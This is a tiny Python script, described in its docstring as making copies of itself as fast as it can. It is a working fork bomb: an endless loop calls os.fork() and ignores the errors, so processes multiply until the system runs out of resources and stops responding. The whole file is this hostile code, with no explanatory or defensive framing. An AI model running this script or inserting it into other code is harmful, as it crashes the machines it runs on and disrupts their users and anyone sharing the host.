"""Makes copies of itself as fast as it can."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
